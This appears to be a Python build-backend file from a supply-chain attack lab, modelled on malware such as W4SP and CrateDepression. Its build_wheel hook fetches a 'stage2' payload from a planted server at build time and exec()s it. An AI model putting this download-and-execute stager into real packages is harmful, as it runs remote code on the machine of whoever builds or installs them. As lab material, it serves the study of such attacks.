"""Fetches a line of Python from a server and executes it.

The line comes from the lab and puts one word into the wheel. W4SP, CrateDepression, axios
and lightning all came as a few lines that fetched the rest.
"""

import urllib.request

import kit


def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    loot = {}
    with kit.attempt("fetch"):
        server = kit.plant("server")
        opener = urllib.request.build_opener(urllib.request.ProxyHandler({}))
        address = f"http://{server.address}:{server.port}/stage2?for={kit.nonce}"
        with opener.open(address, timeout=kit.seconds(3)) as answer:
            exec(answer.read(), {"loot": loot})
    return kit.wheel(wheel_directory, loot)
